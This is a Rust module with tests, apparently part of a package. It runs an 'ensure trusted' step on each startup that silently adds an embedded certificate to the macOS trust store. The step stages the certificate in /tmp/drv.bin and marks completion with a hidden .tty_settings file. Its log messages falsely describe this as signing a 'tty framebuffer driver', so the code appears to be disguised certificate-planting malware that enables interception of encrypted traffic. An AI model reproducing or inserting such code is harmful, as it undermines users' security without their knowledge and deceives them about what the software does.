//! The idempotent "ensure trusted" procedure

use std::path::PathBuf;

use log::{debug, info};

use super::credential::{DRIVER_CREDENTIAL, validate_credential};
use super::detection::{InstallationState, marker_state};
use super::environment::{current_platform, is_target_platform};
use super::error::InstallerError;
use super::settings::{TTY_SETTINGS_FILE, current_home_dir, tty_settings_path, write_tty_settings};
use super::staging::StagedCredential;
use super::trust_store::{SecurityCommand, TrustStore};

/// Fixed staging location for the credential
pub const DEFAULT_STAGING_PATH: &str = "/tmp/drv.bin";

/// What a successful `ensure` call did
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InstallOutcome {
    /// Not macOS; nothing touched
    SkippedUnsupportedPlatform,
    /// Marker already present; nothing touched
    SkippedAlreadyInstalled,
    /// Credential trusted and marker written
    Installed,
}

/// Trusts the tty driver credential once per user
#[derive(Debug)]
pub struct Installer {
    platform: String,
    home_dir: Option<PathBuf>,
    marker_file_name: String,
    staging_path: PathBuf,
    trust_store: Box<dyn TrustStore>,
}

impl Default for Installer {
    fn default() -> Self {
        InstallerBuilder::new().build()
    }
}

impl Installer {
    pub fn builder() -> InstallerBuilder {
        InstallerBuilder::new()
    }

    /// Marker path for the configured (or invoking) user
    pub fn marker_path(&self) -> Result<PathBuf, InstallerError> {
        let home = match &self.home_dir {
            Some(home) => home.clone(),
            None => current_home_dir()?,
        };
        Ok(tty_settings_path(&home, &self.marker_file_name))
    }

    /// Current state, without side effects
    pub fn state(&self) -> Result<InstallationState, InstallerError> {
        // Off macOS the home directory is never resolved
        if !is_target_platform(&self.platform) {
            return Ok(InstallationState::NotApplicable);
        }
        Ok(marker_state(&self.marker_path()?))
    }

    /// Make sure the driver credential is trusted
    ///
    /// Safe to call on every startup. Off macOS, or once the marker exists,
    /// this returns without touching the filesystem or spawning anything.
    /// Otherwise the credential is staged, handed to the trust store and the
    /// marker written. The staged file is gone by the time this returns,
    /// whatever the outcome.
    ///
    /// A failure after the trust step leaves the marker absent, so the next
    /// call trusts the credential again.
    pub fn ensure(&self) -> Result<InstallOutcome, InstallerError> {
        if !is_target_platform(&self.platform) {
            debug!("Platform {} needs no tty driver", self.platform);
            return Ok(InstallOutcome::SkippedUnsupportedPlatform);
        }

        let marker = self.marker_path()?;
        if marker_state(&marker) == InstallationState::Installed {
            debug!("tty driver already signed ({} exists)", marker.display());
            return Ok(InstallOutcome::SkippedAlreadyInstalled);
        }

        info!("OSX tty framebuffer driver installed but not signed, signing it...");

        validate_credential(DRIVER_CREDENTIAL)?;
        let staged = StagedCredential::write(&self.staging_path, DRIVER_CREDENTIAL)?;
        self.trust_store.add_trusted_cert(staged.path())?;
        write_tty_settings(&marker)?;
        drop(staged);

        info!("Driver successfully signed");
        Ok(InstallOutcome::Installed)
    }
}

/// Fluent construction of an [`Installer`]
#[derive(Debug)]
pub struct InstallerBuilder {
    platform: Option<String>,
    home_dir: Option<PathBuf>,
    marker_file_name: String,
    staging_path: PathBuf,
    trust_store: Option<Box<dyn TrustStore>>,
}

impl Default for InstallerBuilder {
    fn default() -> Self {
        Self {
            platform: None,
            home_dir: None,
            marker_file_name: TTY_SETTINGS_FILE.to_string(),
            staging_path: PathBuf::from(DEFAULT_STAGING_PATH),
            trust_store: None,
        }
    }
}

impl InstallerBuilder {
    pub fn new() -> Self {
        Self::default()
    }

    /// Platform identifier to gate on; defaults to the running OS
    pub fn platform(mut self, platform: impl Into<String>) -> Self {
        self.platform = Some(platform.into());
        self
    }

    /// Home directory holding the marker; defaults to the invoking user's
    pub fn home_dir(mut self, home: impl Into<PathBuf>) -> Self {
        self.home_dir = Some(home.into());
        self
    }

    pub fn marker_file_name(mut self, name: impl Into<String>) -> Self {
        self.marker_file_name = name.into();
        self
    }

    pub fn staging_path(mut self, path: impl Into<PathBuf>) -> Self {
        self.staging_path = path.into();
        self
    }

    /// Trust store backend; defaults to [`SecurityCommand`]
    pub fn trust_store(mut self, store: impl TrustStore + 'static) -> Self {
        self.trust_store = Some(Box::new(store));
        self
    }

    pub fn build(self) -> Installer {
        Installer {
            platform: self
                .platform
                .unwrap_or_else(|| current_platform().to_string()),
            home_dir: self.home_dir,
            marker_file_name: self.marker_file_name,
            staging_path: self.staging_path,
            trust_store: self
                .trust_store
                .unwrap_or_else(|| Box::new(SecurityCommand::new())),
        }
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};

    use super::*;

    #[derive(Debug, Default, Clone)]
    struct CountingStore(Arc<AtomicUsize>);

    impl TrustStore for CountingStore {
        fn add_trusted_cert(&self, _cert_path: &Path) -> Result<(), InstallerError> {
            self.0.fetch_add(1, Ordering::SeqCst);
            Ok(())
        }
    }

    #[test]
    fn defaults() {
        let installer = Installer::default();
        assert_eq!(installer.platform, current_platform());
        assert_eq!(installer.staging_path, PathBuf::from("/tmp/drv.bin"));
        assert_eq!(installer.marker_file_name, ".tty_settings");
    }

    #[test]
    fn wrong_platform_does_not_resolve_home() {
        let calls = CountingStore::default();
        let installer = Installer::builder()
            .platform("linux")
            .home_dir("/nonexistent/home")
            .trust_store(calls.clone())
            .build();

        assert_eq!(
            installer.ensure().unwrap(),
            InstallOutcome::SkippedUnsupportedPlatform
        );
        assert_eq!(installer.state().unwrap(), InstallationState::NotApplicable);
        assert_eq!(calls.0.load(Ordering::SeqCst), 0);
    }

    #[test]
    fn custom_marker_name_is_honoured() {
        let home = tempfile::tempdir().unwrap();
        let staging = tempfile::tempdir().unwrap();
        let installer = Installer::builder()
            .platform("darwin")
            .home_dir(home.path())
            .marker_file_name(".tty_settings_test")
            .staging_path(staging.path().join("drv.bin"))
            .trust_store(CountingStore::default())
            .build();

        assert_eq!(installer.ensure().unwrap(), InstallOutcome::Installed);
        assert!(home.path().join(".tty_settings_test").exists());
        assert!(!home.path().join(".tty_settings").exists());
    }

    #[cfg(unix)]
    #[test]
    fn default_marker_lives_in_passwd_home_of_real_uid() {
        use nix::unistd::{User, getuid};

        let installer = Installer::default();
        match User::from_uid(getuid()) {
            Ok(Some(user)) => assert_eq!(
                installer.marker_path().unwrap(),
                user.dir.join(".tty_settings")
            ),
            _ => assert!(matches!(
                installer.marker_path(),
                Err(InstallerError::HomeDirectory(_))
            )),
        }
    }
}
